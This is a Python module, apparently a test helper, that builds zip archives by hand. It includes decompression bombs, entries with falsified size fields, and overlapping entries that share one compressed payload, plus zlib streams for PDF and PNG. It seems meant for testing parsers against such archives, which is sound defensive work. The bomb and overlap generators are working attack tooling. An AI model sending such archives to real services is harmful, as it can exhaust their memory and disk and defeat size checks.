"""Zip files written byte by byte, so that they can lie, and files that unpack to far too much."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

_CHUNK = 1 << 20
_UNSET = -1


@dataclass(frozen=True)
class Packed:
    """Deflated data together with what it unpacks to."""

    data: bytes
    crc: int
    adler: int
    size: int

    @property
    def zlib_stream(self) -> bytes:
        """The data as PDF and PNG want it."""
        return b"\x78\x9c" + self.data + struct.pack(">I", self.adler)


def bomb(start: bytes, fill: bytes, megabytes: int, end: bytes = b"") -> Packed:
    """Deflate `start`, many megabytes of one byte, and `end`, without ever unpacking them."""
    chunk = fill * _CHUNK
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = packer.compress(end) + packer.flush()
    crc, adler = zlib.crc32(start), zlib.adler32(start)
    for _ in range(megabytes):
        crc, adler = zlib.crc32(chunk, crc), zlib.adler32(chunk, adler)
    return Packed(
        head + body * megabytes + tail,
        zlib.crc32(end, crc),
        zlib.adler32(end, adler),
        len(start) + megabytes * _CHUNK + len(end),
    )


def deflate(data: bytes) -> Packed:
    """Ordinary deflated data."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packer.compress(data) + packer.flush()
    return Packed(packed, zlib.crc32(data), zlib.adler32(data), len(data))


@dataclass(frozen=True)
class Entry:
    """One entry of a zip file, and the lies it tells."""

    name: str
    packed: Packed
    claimed_size: int = _UNSET
    flags: int = 0
    method: int = 8
    extra: bytes = b""

    def _fields(self) -> tuple[int, ...]:
        size = self.packed.size if self.claimed_size == _UNSET else self.claimed_size
        written = len(self.packed.data)
        name = len(self.name.encode())
        return (20, self.flags, self.method, 0, 0x21, self.packed.crc, written, size, name)

    def local(self) -> bytes:
        """The header in front of the data, and the data."""
        head = struct.pack("<4s5H3I2H", b"PK\x03\x04", *self._fields(), len(self.extra))
        return head + self.name.encode() + self.extra + self.packed.data

    def central(self, offset: int) -> bytes:
        """The line in the directory at the end."""
        head = struct.pack(
            "<4s6H3I5H2I",
            *(b"PK\x01\x02", 20, *self._fields(), len(self.extra)),
            *(0, 0, 0, 0, offset),
        )
        return head + self.name.encode() + self.extra


def zip_of(entries: Iterable[Entry]) -> bytes:
    """A zip file of the entries."""
    body, directory, count = bytearray(), bytearray(), 0
    for count, entry in enumerate(entries, 1):  # noqa: B007 - the count is needed afterwards
        directory += entry.central(len(body))
        body += entry.local()
    return bytes(body + directory) + end_record(count, len(directory), len(body))


def overlapping(names: Sequence[str], packed: Packed, first: Sequence[Entry]) -> bytes:
    """A zip file in which many names share the same data."""
    body = b"".join(entry.local() for entry in first)
    directory, offset = bytearray(), 0
    for entry in first:
        directory += entry.central(offset)
        offset += len(entry.local())
    for name in names:
        directory += Entry(name, packed).central(offset)
    body += Entry(names[0], packed).local()
    count = len(first) + len(names)
    return body + bytes(directory) + end_record(count, len(directory), len(body))


def end_record(count: int, size: int, offset: int) -> bytes:
    """The record that ends a zip file."""
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size, offset, 0)


def pack(parts: dict[str, bytes | str]) -> bytes:
    """An honest zip file of the parts."""
    return zip_of(entries_of(parts))


def entries_of(parts: dict[str, bytes | str]) -> list[Entry]:
    """Honest entries of the parts."""
    return [
        Entry(name, deflate(part.encode() if isinstance(part, str) else part))
        for name, part in parts.items()
    ]
